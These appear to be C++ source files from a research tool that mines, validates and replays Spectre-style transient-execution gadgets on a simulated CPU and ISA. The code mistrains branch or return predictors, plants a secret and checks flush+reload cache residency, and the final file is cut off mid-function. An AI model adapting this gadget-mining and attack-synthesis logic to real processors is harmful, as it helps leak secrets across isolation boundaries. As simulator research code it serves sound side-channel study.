/// Strips leading `ident:` label definitions from a cleaned statement.
std::string strip_labels(std::string s) {
  for (;;) {
    std::size_t i = 0;
    while (i < s.size() &&
           (std::isalnum(static_cast<unsigned char>(s[i])) || s[i] == '_' ||
            s[i] == '.')) {
      ++i;
    }
    if (i == 0 || i >= s.size() || s[i] != ':') return s;
    s = strip_comment_and_trim(s.substr(i + 1));
  }
}

bool parse_i64(std::string_view s, std::int64_t* out) {
  if (s.empty()) return false;
  char* end = nullptr;
  const std::string tmp(s);
  const long long v = std::strtoll(tmp.c_str(), &end, 0);
  if (end != tmp.c_str() + tmp.size()) return false;
  *out = v;
  return true;
}

std::vector<std::string> split_operands(std::string_view s) {
  std::vector<std::string> out;
  std::size_t start = 0;
  bool in_string = false;
  for (std::size_t i = 0; i <= s.size(); ++i) {
    if (i < s.size() && s[i] == '"' && (i == 0 || s[i - 1] != '\\')) {
      in_string = !in_string;
    }
    if (i == s.size() || (s[i] == ',' && !in_string)) {
      out.push_back(strip_comment_and_trim(s.substr(start, i - start)));
      start = i + 1;
    }
  }
  return out;
}

/// Byte length of a quoted `.ascii` operand (escape sequences are 1 byte).
std::int64_t quoted_length(std::string_view s) {
  if (s.size() < 2 || s.front() != '"' || s.back() != '"') return -1;
  std::int64_t n = 0;
  for (std::size_t i = 1; i + 1 < s.size(); ++i) {
    if (s[i] == '\\' && i + 2 < s.size()) ++i;
    ++n;
  }
  return n;
}

/// Size contributed to the current section by a label-stripped statement,
/// or -1 when it cannot be determined. `*off` is updated for `.align`.
std::int64_t statement_size(const std::string& stmt, std::uint64_t* off) {
  if (stmt.empty()) return 0;
  if (stmt[0] != '.') return 8;  // instruction
  const std::size_t sp = stmt.find_first_of(" \t");
  const std::string dir = stmt.substr(0, sp);
  const std::string rest =
      sp == std::string::npos ? std::string() : strip_comment_and_trim(stmt.substr(sp));
  if (dir == ".text" || dir == ".rodata" || dir == ".data" || dir == ".equ" ||
      dir == ".entry" || dir == ".org") {
    return 0;
  }
  if (dir == ".byte" || dir == ".word") {
    const auto ops = split_operands(rest);
    return static_cast<std::int64_t>(ops.size()) * (dir == ".byte" ? 1 : 8);
  }
  if (dir == ".ascii" || dir == ".asciz") {
    const std::int64_t n = quoted_length(rest);
    if (n < 0) return -1;
    return dir == ".asciz" ? n + 1 : n;
  }
  if (dir == ".space") {
    const auto ops = split_operands(rest);
    std::int64_t n = 0;
    if (ops.empty() || !parse_i64(ops[0], &n) || n < 0) return -1;
    return n;
  }
  if (dir == ".align") {
    std::int64_t n = 0;
    if (!parse_i64(rest, &n) || n <= 0) return -1;
    const std::uint64_t aligned =
        (*off + static_cast<std::uint64_t>(n) - 1) /
        static_cast<std::uint64_t>(n) * static_cast<std::uint64_t>(n);
    const std::int64_t pad = static_cast<std::int64_t>(aligned - *off);
    return pad;
  }
  return -1;  // unknown directive
}

}  // namespace

int find_text_statement(const std::vector<std::string>& lines,
                        std::uint64_t text_off) {
  enum Section { kText, kOther } section = kText;
  std::uint64_t off = 0;
  for (std::size_t i = 0; i < lines.size(); ++i) {
    const std::string cleaned = strip_comment_and_trim(lines[i]);
    if (cleaned == ".text") {
      section = kText;
      continue;
    }
    if (cleaned == ".rodata" || cleaned == ".data") {
      section = kOther;
      continue;
    }
    if (section != kText) continue;
    const std::string stmt = strip_labels(cleaned);
    const std::int64_t size = statement_size(stmt, &off);
    if (size < 0) return -1;
    if (off == text_off && !stmt.empty() && stmt[0] != '.' && size == 8) {
      return static_cast<int>(i);
    }
    off += static_cast<std::uint64_t>(size);
    if (off > text_off) break;
  }
  return -1;
}

std::vector<std::string> strip_layout_directives(const std::string& source) {
  std::vector<std::string> out;
  for (std::string& line : split_lines(source)) {
    const std::string cleaned = strip_comment_and_trim(line);
    if (cleaned.rfind(".org", 0) == 0 || cleaned.rfind(".entry", 0) == 0) {
      continue;
    }
    out.push_back(std::move(line));
  }
  return out;
}

std::string escape_ascii(const std::string& s) {
  std::string out;
  for (const char ch : s) {
    switch (ch) {
      case '\n':
        out += "\\n";
        break;
      case '\t':
        out += "\\t";
        break;
      case '\0':
        out += "\\0";
        break;
      case '\\':
        out += "\\\\";
        break;
      case '"':
        out += "\\\"";
        break;
      default:
        out += ch;
        break;
    }
  }
  return out;
}

}  // namespace crs::mine::detail
