// Dynamic ground truth for classified windows (stage 2 of the pipeline).
//
// The original source text is re-assembled *in situ* behind a generated
// driver: the combined image keeps the candidate window's real instruction
// bytes (a label is planted at the trigger statement), a 16-byte secret is
// planted in driver data, the attacker register is aimed so the window's
// transient load reads it, and the trigger is fired exactly once — a
// mistrained conditional branch, or a return whose RSB prediction we seed at
// the window. The candidate survives only if the predicted secret-dependent
// probe line is actually resident in the data caches afterwards.
#include <array>
#include <cstdint>
#include <limits>
#include <optional>
#include <string>
#include <vector>

#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "isa/isa.hpp"
#include "mine/emul.hpp"
#include "mine/mine.hpp"
#include "sim/kernel.hpp"

namespace crs::mine::detail {
namespace {

using isa::Opcode;
using isa::OpClass;

constexpr std::uint64_t kSlot = 8;

constexpr char kEntryLabel[] = "mine_gadget_entry";

struct XmitFormula {
  std::int64_t base = 0;  ///< coefficient of the attacker seed B
  std::int64_t val = 0;   ///< coefficient of the transient secret value
  std::int64_t add = 0;
  std::uint64_t ea(std::int64_t bval, std::uint64_t v) const {
    return static_cast<std::uint64_t>(base) * static_cast<std::uint64_t>(bval) +
           static_cast<std::uint64_t>(val) * v +
           static_cast<std::uint64_t>(add);
  }
};

struct WindowFormulas {
  std::int64_t load_base = 0;  ///< transient load ea = B + load_base
  XmitFormula xmit;
};

bool fits_i32(std::int64_t v) {
  return v >= std::numeric_limits<std::int32_t>::min() &&
         v <= std::numeric_limits<std::int32_t>::max();
}

/// Affine walk of the candidate window inside the combined image. `init`
/// carries the driver's register state symbolically.
std::optional<WindowFormulas> emulate_window(const sim::Program& combined,
                                             std::uint64_t window_addr,
                                             const WindowCandidate& cand,
                                             SymRegs regs) {
  const int load_idx =
      static_cast<int>((cand.load_addr - cand.window_addr) / kSlot);
  const int xmit_idx = cand.window_len - 1;
  WindowFormulas out;
  for (int i = 0; i < cand.window_len; ++i) {
    const std::uint64_t pc = window_addr + static_cast<std::uint64_t>(i) * kSlot;
    auto in = decode_at(combined, pc);
    if (!in) return std::nullopt;
    const OpClass cls = isa::op_class(in->op);
    if (cls == OpClass::kLoad) {
      SymVal ea = sym_add(regs[in->rs1],
                          SymVal::constant(static_cast<std::int64_t>(in->imm)),
                          +1);
      if (i == load_idx) {
        // The attacker-steered load: ea must be exactly B + const.
        if (!ea.known || ea.anchor >= 0 || ea.base != 1 || ea.val != 0) {
          return std::nullopt;
        }
        out.load_base = ea.add;
        regs[in->rd] = SymVal::secret_value();
      } else if (i == xmit_idx) {
        if (!ea.known || ea.anchor >= 0 || ea.val == 0) return std::nullopt;
        out.xmit = {ea.base, ea.val, ea.add};
        return out;
      } else if (ea.pure_const()) {
        const int width = in->op == Opcode::kLoadB ? 1 : 8;
        auto v = read_image(combined, static_cast<std::uint64_t>(ea.add), width);
        regs[in->rd] = v ? SymVal::constant(static_cast<std::int64_t>(*v))
                         : SymVal::unknown();
      } else {
        regs[in->rd] = SymVal::unknown();
      }
    } else if (cls == OpClass::kAlu) {
      regs[in->rd] = sym_alu(*in, regs);
    } else if (cls == OpClass::kPop || cls == OpClass::kRdCycle) {
      regs[in->rd] = SymVal::unknown();
    } else if (cls == OpClass::kStore || cls == OpClass::kPush ||
               cls == OpClass::kFlush || cls == OpClass::kNop) {
      // Stores are not modelled; a store-to-load mismatch simply fails the
      // dynamic residency check below.
    } else {
      return std::nullopt;  // control flow mid-window: classifier excluded it
    }
  }
  return std::nullopt;  // xmit index never produced a formula
}

struct CombinedProgram {
  sim::Program program;
  std::uint64_t trigger = 0;  ///< pc to stop at (branch pc / driver ret)
  std::uint64_t window = 0;   ///< transient window start in combined layout
  std::int64_t bval = 0;
  WindowFormulas formulas;
  std::string reject;
};

/// Shared sym-walk entry: given the assembled combined image, locate the
/// trigger/window, emulate, and solve for the attacker seed.
bool solve(const WindowCandidate& cand, CombinedProgram* cp,
           std::int64_t cond_val, bool cond_is_attacker) {
  const sim::Program& prog = cp->program;
  const std::uint64_t entry_sym = prog.symbol(kEntryLabel);
  const std::uint64_t scratch = prog.symbol("mine_scratch");
  const std::uint64_t secret_addr = prog.symbol("mine_secret");

  if (cand.trigger == TriggerKind::kCondBranch) {
    auto br = decode_at(prog, entry_sym);
    if (!br || isa::op_class(br->op) != OpClass::kCondBranch) {
      cp->reject = "trigger does not decode to a conditional branch";
      return false;
    }
    cp->trigger = entry_sym;
    cp->window = cand.window_taken ? static_cast<std::uint32_t>(br->imm)
                                   : entry_sym + kSlot;
  } else {
    cp->trigger = prog.symbol("mine_ret");
    cp->window = entry_sym;
  }

  SymRegs regs{};
  for (int r = 0; r < isa::kNumRegisters - 1; ++r) {
    regs[r] = SymVal::constant(static_cast<std::int64_t>(scratch));
  }
  regs[isa::kNumRegisters - 1] = SymVal::unknown();  // sp
  regs[cand.attacker_reg] = SymVal::attacker();
  if (cand.trigger == TriggerKind::kCondBranch && !cond_is_attacker) {
    regs[cand.cond_reg] = SymVal::constant(cond_val);
  }

  auto formulas = emulate_window(prog, cp->window, cand, regs);
  if (!formulas) {
    cp->reject = "window not representable in the affine domain";
    return false;
  }
  cp->formulas = *formulas;
  cp->bval = static_cast<std::int64_t>(secret_addr) - formulas->load_base;
  if (!fits_i32(cp->bval)) {
    cp->reject = "attacker seed does not fit a movi immediate";
    return false;
  }
  return true;
}

std::string reg(int r) { return std::string(isa::register_name(r)); }

/// Driver + embedded original + planted data, as one assembly source.
/// `bval` seeds the attacker register; `slot_value` is what the flushed
/// condition slot holds (the attacker seed itself when the branch tests the
/// attacker register, the direction-flipping condition value otherwise).
std::string build_combined_source(const std::vector<std::string>& body_lines,
                                  int label_line, const WindowCandidate& cand,
                                  std::int64_t bval, std::int64_t slot_value) {
  std::string s;
  s += ".entry mine_main\n";
  s += "mine_main:\n";
  const int rt = cand.attacker_reg;
  const bool branch = cand.trigger == TriggerKind::kCondBranch;
  const int rc = branch ? cand.cond_reg : -1;
  if (branch) {
    s += "  movi r9, mine_cond_slot\n";
    s += "  clflush [r9]\n";
    s += "  mfence\n";
  } else {
    // Fake return frame: architectural target mine_resume, slow to resolve
    // (flushed), while the RSB predicts the mined window (seeded by the
    // harness right before the ret executes).
    s += "  addi r15, r15, -8\n";
    s += "  movi r9, mine_resume\n";
    s += "  store [r15], r9\n";
    s += "  clflush [r15]\n";
    s += "  mfence\n";
  }
  // Canonicalize every register the window might read: point them at a
  // harmless scratch buffer (sp keeps the kernel stack).
  for (int r = 0; r < isa::kNumRegisters - 1; ++r) {
    if (r == rt || r == rc) continue;
    s += "  movi " + reg(r) + ", mine_scratch\n";
  }
  if (branch) {
    if (rc != rt) {
      s += "  movi " + reg(rt) + ", " + std::to_string(bval) + "\n";
    }
    // Condition resolves late (flushed slot), opening the window.
    s += "  movi " + reg(rc) + ", mine_cond_slot\n";
    s += "  load " + reg(rc) + ", [" + reg(rc) + "]\n";
    s += "  jmp " + std::string(kEntryLabel) + "\n";
  } else {
    s += "  movi " + reg(rt) + ", " + std::to_string(bval) + "\n";
    s += "mine_ret:\n";
    s += "  ret\n";
    s += "mine_resume:\n";
    s += "  halt\n";
  }
  // Original image, with the trigger labelled in place.
  for (int i = 0; i < static_cast<int>(body_lines.size()); ++i) {
    if (i == label_line) s += std::string(kEntryLabel) + ":\n";
    s += body_lines[i];
    s += '\n';
  }
  s += ".data\n";
  s += ".align 64\n";
  s += "mine_cond_slot:\n";
  s += "  .word " + std::to_string(branch ? slot_value : 0) + "\n";
  s += ".align 64\n";
  s += "mine_secret:\n";
  s += "  .ascii \"" + escape_ascii(kValidationSecret) + "\"\n";
  s += ".align 64\n";
  s += "mine_scratch:\n";
  s += "  .space 4096, 0\n";
  s += '\n';
  s += casm::runtime_library();
  return s;
}

std::uint64_t line_of(std::uint64_t addr) { return addr & ~std::uint64_t{63}; }

}  // namespace

ValidateOutcome validate_window(const std::string& source,
                                const WindowCandidate& cand,
                                const MineOptions& opt) {
  ValidateOutcome out;
  if (cand.attacker_reg < 0 || cand.attacker_reg >= isa::kNumRegisters - 1 ||
      cand.cond_reg == isa::kNumRegisters - 1) {
    out.reject = "stack-pointer trigger registers are not drivable";
    return out;
  }
  const bool branch = cand.trigger == TriggerKind::kCondBranch;
  const std::uint64_t label_off =
      (branch ? cand.trigger_addr : cand.window_addr) - opt.link_base;

  std::vector<std::string> lines = strip_layout_directives(source);
  const int label_line = find_text_statement(lines, label_off);
  if (label_line < 0) {
    out.reject = "trigger statement not found in source text";
    return out;
  }

  // The branch condition register doubles as the attacker register when the
  // window derefs the same value it branched on (classic bounds-check
  // shape): the flushed slot then carries the attacker seed itself.
  const bool cond_is_attacker = branch && cand.cond_reg == cand.attacker_reg;

  // Pass 1: assemble with a placeholder slot value to learn the layout and
  // solve the affine window; pass 2 re-assembles with the real values.
  CombinedProgram cp;
  std::int64_t cond_val = 0;
  for (int pass = 0; pass < 2; ++pass) {
    const std::int64_t slot_value = cond_is_attacker ? cp.bval : cond_val;
    std::string combined =
        build_combined_source(lines, label_line, cand, cp.bval, slot_value);
    try {
      cp.program = casm::assemble(
          combined, {.name = "mine-validate", .link_base = opt.link_base});
    } catch (const std::exception& e) {
      out.reject = std::string("combined assembly failed: ") + e.what();
      return out;
    }
    if (!solve(cand, &cp, cond_val, cond_is_attacker)) {
      out.reject = cp.reject;
      return out;
    }
    if (branch) {
      auto br = decode_at(cp.program, cp.trigger);
      // The actual direction must contradict the trained (window) side.
      const bool need_taken = !cand.window_taken;
      if (cond_is_attacker) {
        const bool taken = br->op == Opcode::kBeqz ? cp.bval == 0
                                                   : cp.bval != 0;
        if (taken != need_taken) {
          out.reject = "cond register is the attacker register and the seed "
                       "forces the trained direction";
          return out;
        }
      } else {
        const bool zero_when_taken = br->op == Opcode::kBeqz;
        cond_val = zero_when_taken == need_taken ? 0 : 1;
      }
    }
  }

  // Fire it on the simulator.
  sim::Machine machine{sim::MachineConfig{}};
  sim::Kernel kernel(machine, sim::KernelConfig{});
  kernel.register_binary("/bin/mined", cp.program);
  kernel.start("/bin/mined");

  if (branch) {
    for (int i = 0; i < opt.train_iterations; ++i) {
      machine.predictor().pht().update(cp.trigger, cand.window_taken);
    }
  } else {
    machine.predictor().rsb().push(cp.window);
  }

  int steps = 0;
  while (!machine.cpu().halted() && machine.cpu().pc() != cp.trigger) {
    machine.cpu().step();
    if (++steps > 10000) {
      out.reject = "driver never reached the trigger";
      return out;
    }
  }
  if (machine.cpu().halted()) {
    out.reject = "machine halted before the trigger";
    return out;
  }
  machine.cpu().step();  // the mispredicted trigger + its transient window

  const auto& hier = machine.hierarchy();
  auto resident = [&](std::uint64_t ea) {
    return hier.l1d_resident(ea) || hier.l2_resident(ea);
  };
  const XmitFormula& f = cp.formulas.xmit;
  std::uint64_t expected_v;
  if (cand.load_width == 1) {
    expected_v = static_cast<std::uint8_t>(kValidationSecret[0]);
  } else {
    expected_v = 0;
    for (int i = 7; i >= 0; --i) {
      expected_v = (expected_v << 8) |
                   static_cast<std::uint8_t>(kValidationSecret[i]);
    }
  }
  const std::uint64_t hot = f.ea(cp.bval, expected_v);
  if (!resident(hot)) {
    out.reject = "predicted probe line not resident after the trigger";
    return out;
  }
  // Discriminability: some other secret value must map to a distinct cold
  // line, otherwise the window only perturbs the cache without leaking.
  bool discriminable = false;
  if (cand.load_width == 1) {
    for (std::uint64_t v = 0; v < 256 && !discriminable; ++v) {
      if (v == expected_v) continue;
      const std::uint64_t foil = f.ea(cp.bval, v);
      discriminable = line_of(foil) != line_of(hot) && !resident(foil);
    }
  } else {
    const std::uint64_t foils[] = {expected_v ^ 0xffULL, expected_v + 64,
                                   expected_v ^ 0xff00ULL};
    for (const std::uint64_t v : foils) {
      const std::uint64_t foil = f.ea(cp.bval, v);
      if (line_of(foil) != line_of(hot) && !resident(foil)) {
        discriminable = true;
        break;
      }
    }
  }
  out.validation = discriminable ? Validation::kLeak : Validation::kPerturb;
  out.leaked_byte = static_cast<std::uint8_t>(kValidationSecret[0]);
  return out;
}

}  // namespace crs::mine::detail

namespace crs::mine {

Validation validate_candidate(const std::string& source,
                              const WindowCandidate& candidate,
                              const MineOptions& options) {
  return detail::validate_window(source, candidate, options).validation;
}

}  // namespace crs::mine
