// Scenario synthesis (stage 3 of the pipeline): turn a validated window into
// a standalone flush+reload replay program built around the *verbatim mined
// body*.
//
// The mined instructions are re-emitted inside a canonical trigger:
//
//   PHT:  mine_gadget: cmpltu rCc, rZ, rC   ; fence-pass-visible compare
//                      bnez   rCc, mine_gskip
//                      <mined body>         ; architectural on the train path
//         mine_gskip:  ret
//
//   RSB:  mine_gadget: call mine_tramp      ; tramp rewrites its own return
//                      <mined body>         ; only ever reached transiently
//         mine_gskip:  ret
//
// Address immediates inside the body (movi of a link-time address) are
// re-anchored onto embedded copies of the victim image's segments, so the
// body touches memory the replay program owns. The driver mirrors the
// existing attack programs byte for byte where it matters: the probe loop
// reaches an mfence before its first timed load, which is also what
// terminates the transient continuation that falls off the gadget's ret
// (run_wrong_path ends the episode at the first fence).
//
// Synthesis is best-effort static construction; the caller (mine_source)
// self-checks the program against a planted secret before a gadget becomes
// scenario-eligible, so any residual mismatch here costs eligibility, never
// correctness.
#include <algorithm>
#include <array>
#include <cstdint>
#include <cstdio>
#include <limits>
#include <optional>
#include <string>
#include <vector>

#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "isa/isa.hpp"
#include "mine/emul.hpp"
#include "mine/mine.hpp"
#include "sim/program.hpp"

namespace crs::mine {
namespace {

using detail::SymRegs;
using detail::SymVal;
using isa::Opcode;
using isa::OpClass;

constexpr std::uint64_t kSlot = 8;
constexpr std::uint64_t kScratchSize = 4096;
constexpr std::int64_t kScratchFill = 2048;  ///< fill registers mid-buffer
constexpr std::uint64_t kMaxEmbedded = 64 * 1024;
constexpr int kSecretCap = 256;  ///< mine_out capacity (bytes per run)

std::string reg(int r) { return std::string(isa::register_name(r)); }

bool fits_i32(std::int64_t v) {
  return v >= std::numeric_limits<std::int32_t>::min() &&
         v <= std::numeric_limits<std::int32_t>::max();
}

struct RegRW {
  bool r1 = false, r2 = false;
  int w = -1;
};

/// Register operands an instruction reads/writes (straight-line classes
/// only; the classifier excluded control flow from windows).
RegRW instr_rw(const isa::Instruction& in) {
  RegRW rw;
  switch (isa::op_class(in.op)) {
    case OpClass::kAlu:
      rw.w = in.rd;
      switch (in.op) {
        case Opcode::kMovImm:
          break;
        case Opcode::kMov:
        case Opcode::kAddImm:
        case Opcode::kMulImm:
        case Opcode::kAndImm:
        case Opcode::kOrImm:
        case Opcode::kXorImm:
        case Opcode::kShlImm:
        case Opcode::kShrImm:
          rw.r1 = true;
          break;
        default:  // three-register forms
          rw.r1 = rw.r2 = true;
          break;
      }
      break;
    case OpClass::kLoad:
      rw.r1 = true;
      rw.w = in.rd;
      break;
    case OpClass::kStore:
      rw.r1 = rw.r2 = true;
      break;
    case OpClass::kFlush:
      rw.r1 = true;
      break;
    case OpClass::kRdCycle:
      rw.w = in.rd;
      break;
    default:
      break;  // kNop
  }
  return rw;
}

/// Base symbols the re-anchored body can reference: one per original image
/// segment, plus the canonical scratch buffer as the last entry.
struct Anchor {
  std::string label;
  std::uint64_t size = 0;
  int segment = -1;  ///< index into the original image; -1 = scratch
};

std::string anchor_ref(const Anchor& a, std::int64_t off) {
  if (off == 0) return a.label;
  return a.label + (off >= 0 ? "+" : "") + std::to_string(off);
}

/// `.byte`/`.space` emission of an embedded segment copy.
void emit_bytes(std::string* s, const std::vector<std::uint8_t>& bytes) {
  std::size_t i = 0;
  while (i < bytes.size()) {
    std::size_t zeros = 0;
    while (i + zeros < bytes.size() && bytes[i + zeros] == 0) ++zeros;
    if (zeros >= 32 || (zeros > 0 && i + zeros == bytes.size())) {
      *s += "  .space " + std::to_string(zeros) + ", 0\n";
      i += zeros;
      continue;
    }
    std::string row = "  .byte ";
    for (int n = 0; n < 16 && i < bytes.size(); ++n, ++i) {
      if (n > 0) row += ", ";
      row += std::to_string(bytes[i]);
    }
    *s += row + "\n";
  }
}

struct BodyPlan {
  std::vector<isa::Instruction> instrs;
  /// instr index -> anchor index for movis rewritten onto an embedded copy.
  std::vector<int> movi_anchor;
  std::vector<std::int64_t> movi_off;
  std::vector<bool> body_reads;  ///< registers live-in to the window
  // Solved addressing:
  int load_anchor = -1;  ///< anchor the attacker-steered load offsets from
  std::int64_t load_add = 0;
  int xmit_anchor = -1;
  std::int64_t xmit_val = 0;
  std::int64_t xmit_add = 0;
};

int find_segment(const sim::Program& prog, std::uint64_t addr) {
  for (std::size_t i = 0; i < prog.segments.size(); ++i) {
    const auto& seg = prog.segments[i];
    if (!seg.bytes.empty() && addr >= seg.addr &&
        addr < seg.addr + seg.bytes.size()) {
      return static_cast<int>(i);
    }
  }
  return -1;
}

/// Decodes the window, plans the movi re-anchoring, and solves the load /
/// transmit addressing in the replay program's own layout. Returns nullopt
/// when the body is not expressible as a safe architectural program.
std::optional<BodyPlan> plan_body(const sim::Program& orig,
                                  const WindowCandidate& cand,
                                  const std::vector<Anchor>& anchors) {
  if (cand.load_width != 1) return std::nullopt;  // byte recovery only
  if (cand.attacker_reg < 0 || cand.attacker_reg >= isa::kStackPointer) {
    return std::nullopt;
  }
  const int scratch = static_cast<int>(anchors.size()) - 1;
  BodyPlan plan;
  plan.body_reads.assign(isa::kNumRegisters, false);
  std::array<bool, isa::kNumRegisters> written{};

  for (int i = 0; i < cand.window_len; ++i) {
    auto in = detail::decode_at(
        orig, cand.window_addr + static_cast<std::uint64_t>(i) * kSlot);
    if (!in) return std::nullopt;
    const OpClass cls = isa::op_class(in->op);
    if (cls == OpClass::kPush || cls == OpClass::kPop) {
      return std::nullopt;  // stack traffic is not replayable standalone
    }
    if (cls != OpClass::kAlu && cls != OpClass::kLoad &&
        cls != OpClass::kStore && cls != OpClass::kFlush &&
        cls != OpClass::kRdCycle && cls != OpClass::kNop) {
      return std::nullopt;
    }
    const RegRW rw = instr_rw(*in);
    if (rw.r1 && !written[in->rs1]) plan.body_reads[in->rs1] = true;
    if (rw.r2 && !written[in->rs2]) plan.body_reads[in->rs2] = true;
    if (rw.w >= 0) written[rw.w] = true;
    // movi of a link-time address -> anchored onto the embedded copy.
    int anchor = -1;
    std::int64_t off = 0;
    if (in->op == Opcode::kMovImm) {
      const auto addr = static_cast<std::int64_t>(in->imm);
      if (addr > 0) {
        const int seg = find_segment(orig, static_cast<std::uint64_t>(addr));
        if (seg >= 0) {
          anchor = seg;
          off = addr - static_cast<std::int64_t>(orig.segments[seg].addr);
        }
      }
    }
    plan.movi_anchor.push_back(anchor);
    plan.movi_off.push_back(off);
    plan.instrs.push_back(*in);
  }
  if (plan.body_reads[isa::kStackPointer]) return std::nullopt;

  // Symbolic walk in the replay layout: live-in registers point mid-scratch,
  // the attacker register is symbolic, rewritten movis are anchored.
  SymRegs regs{};
  for (int r = 0; r < isa::kNumRegisters; ++r) {
    regs[r] = plan.body_reads[r] ? SymVal::anchored(scratch, kScratchFill)
                                 : SymVal::unknown();
  }
  regs[cand.attacker_reg] = SymVal::attacker();

  const int load_idx =
      static_cast<int>((cand.load_addr - cand.window_addr) / kSlot);
  const int xmit_idx = cand.window_len - 1;
  bool solved = false;

  auto anchored_slot = [&](const SymVal& ea, int width,
                           std::int64_t* off_out) {
    if (!ea.known || ea.anchor < 0 || ea.base != 0 || ea.val != 0) {
      return false;
    }
    const auto size =
        static_cast<std::int64_t>(anchors[static_cast<std::size_t>(ea.anchor)]
                                      .size);
    if (ea.add < 0 || ea.add + width > size) return false;
    *off_out = ea.add;
    return true;
  };

  for (int i = 0; i < cand.window_len; ++i) {
    const isa::Instruction& in = plan.instrs[static_cast<std::size_t>(i)];
    const OpClass cls = isa::op_class(in.op);
    if (cls == OpClass::kLoad) {
      const int width = in.op == Opcode::kLoadB ? 1 : 8;
      SymVal ea = detail::sym_add(
          regs[in.rs1], SymVal::constant(static_cast<std::int64_t>(in.imm)),
          +1);
      if (i == load_idx) {
        if (!ea.known || ea.base != 1 || ea.val != 0) return std::nullopt;
        plan.load_anchor = ea.anchor;
        plan.load_add = ea.add;
        regs[in.rd] = SymVal::secret_value();
      } else if (i == xmit_idx) {
        if (!ea.known || ea.anchor < 0 || ea.base != 0 || ea.val == 0) {
          return std::nullopt;
        }
        // Probe entries must be line-distinct and in-bounds for all 256
        // values the transient load can produce.
        if (ea.val < 64 && ea.val > -64) return std::nullopt;
        const auto size = static_cast<std::int64_t>(
            anchors[static_cast<std::size_t>(ea.anchor)].size);
        const std::int64_t lo = ea.add + (ea.val < 0 ? ea.val * 255 : 0);
        const std::int64_t hi = ea.add + (ea.val > 0 ? ea.val * 255 : 0);
        if (lo < 0 || hi + width > size) return std::nullopt;
        plan.xmit_anchor = ea.anchor;
        plan.xmit_val = ea.val;
        plan.xmit_add = ea.add;
        solved = true;
        break;
      } else {
        std::int64_t off = 0;
        if (!anchored_slot(ea, width, &off)) return std::nullopt;
        const Anchor& a = anchors[static_cast<std::size_t>(ea.anchor)];
        if (a.segment >= 0) {
          auto v = detail::read_image(
              orig,
              orig.segments[static_cast<std::size_t>(a.segment)].addr +
                  static_cast<std::uint64_t>(off),
              width);
          regs[in.rd] = v ? SymVal::constant(static_cast<std::int64_t>(*v))
                          : SymVal::unknown();
        } else {
          regs[in.rd] = SymVal::unknown();  // scratch contents change
        }
      }
    } else if (cls == OpClass::kStore || cls == OpClass::kFlush) {
      const int width = in.op == Opcode::kStoreB ? 1 : 8;
      SymVal ea = detail::sym_add(
          regs[in.rs1], SymVal::constant(static_cast<std::int64_t>(in.imm)),
          +1);
      std::int64_t off = 0;
      if (!anchored_slot(ea, cls == OpClass::kFlush ? 1 : width, &off)) {
        return std::nullopt;  // only embedded memory may be touched
      }
    } else if (cls == OpClass::kAlu) {
      const int a = plan.movi_anchor[static_cast<std::size_t>(i)];
      regs[in.rd] = a >= 0 ? SymVal::anchored(
                                 a, plan.movi_off[static_cast<std::size_t>(i)])
                           : detail::sym_alu(in, regs);
    } else if (cls == OpClass::kRdCycle) {
      regs[in.rd] = SymVal::unknown();
    }
    // kNop: nothing.
  }
  if (!solved) return std::nullopt;
  if (!fits_i32(-plan.load_add)) return std::nullopt;
  return plan;
}

/// Registers the driver may clobber around the gadget call.
std::vector<int> free_registers(const BodyPlan& plan, int attacker_reg) {
  std::vector<int> free;
  for (int r = 0; r < isa::kStackPointer; ++r) {
    if (!plan.body_reads[static_cast<std::size_t>(r)] && r != attacker_reg) {
      free.push_back(r);
    }
  }
  return free;
}

/// One re-emitted body line.
std::string body_line(const BodyPlan& plan, const std::vector<Anchor>& anchors,
                      std::size_t i) {
  const int a = plan.movi_anchor[i];
  if (a >= 0) {
    return "  movi " + reg(plan.instrs[i].rd) + ", " +
           anchor_ref(anchors[static_cast<std::size_t>(a)], plan.movi_off[i]);
  }
  return "  " + isa::disassemble(plan.instrs[i]);
}

/// Emits the register fills + attacker-pointer computation shared by the
/// train and trigger blocks. `secret` selects the planted-secret target
/// (with the per-round byte index in `tmp`) over the benign train target.
void emit_aim(std::string* s, const BodyPlan& plan,
              const std::vector<Anchor>& anchors, int attacker_reg, int tmp,
              bool secret) {
  for (int r = 0; r < isa::kStackPointer; ++r) {
    if (!plan.body_reads[static_cast<std::size_t>(r)] || r == attacker_reg) {
      continue;
    }
    *s += "  movi " + reg(r) + ", " +
          anchor_ref(anchors.back(), kScratchFill) + "\n";
  }
  const std::string rt = reg(attacker_reg);
  if (secret) {
    *s += "  movi " + reg(tmp) + ", mine_state\n";
    *s += "  load " + reg(tmp) + ", [" + reg(tmp) + "]\n";
    *s += "  movi " + rt + ", mine_secret_base\n";
    *s += "  add " + rt + ", " + rt + ", " + reg(tmp) + "\n";
    if (plan.load_add != 0) {
      *s += "  addi " + rt + ", " + rt + ", " +
            std::to_string(-plan.load_add) + "\n";
    }
  } else {
    *s += "  movi " + rt + ", " +
          anchor_ref({.label = "mine_benign"}, -plan.load_add) + "\n";
  }
  if (plan.load_anchor >= 0) {
    const Anchor& a = anchors[static_cast<std::size_t>(plan.load_anchor)];
    *s += "  movi " + reg(tmp) + ", " + a.label + "\n";
    *s += "  sub " + rt + ", " + rt + ", " + reg(tmp) + "\n";
  }
}

}  // namespace

std::string synthesize_attack_source(const std::string& source,
                                     const WindowCandidate& cand,
                                     const MineOptions& options) {
  sim::Program orig;
  try {
    orig = casm::assemble(source + "\n" + casm::runtime_library(),
                          {.name = "mine-synth", .link_base = options.link_base});
  } catch (const std::exception&) {
    return {};
  }

  std::vector<Anchor> anchors;
  for (std::size_t i = 0; i < orig.segments.size(); ++i) {
    anchors.push_back({.label = "mine_img" + std::to_string(i),
                       .size = orig.segments[i].bytes.size(),
                       .segment = static_cast<int>(i)});
  }
  anchors.push_back(
      {.label = "mine_scratch", .size = kScratchSize, .segment = -1});

  auto plan = plan_body(orig, cand, anchors);
  if (!plan) return {};

  // Which embedded copies the body actually needs.
  std::vector<bool> used(orig.segments.size(), false);
  auto mark = [&](int a) {
    if (a >= 0 && anchors[static_cast<std::size_t>(a)].segment >= 0) {
      used[static_cast<std::size_t>(a)] = true;
    }
  };
  mark(plan->load_anchor);
  mark(plan->xmit_anchor);
  for (const int a : plan->movi_anchor) mark(a);
  std::uint64_t embedded = 0;
  for (std::size_t i = 0; i < used.size(); ++i) {
    if (used[i]) embedded += orig.segments[i].bytes.size();
  }
  if (embedded > kMaxEmbedded) return {};

  const bool pht = cand.trigger == TriggerKind::kCondBranch;
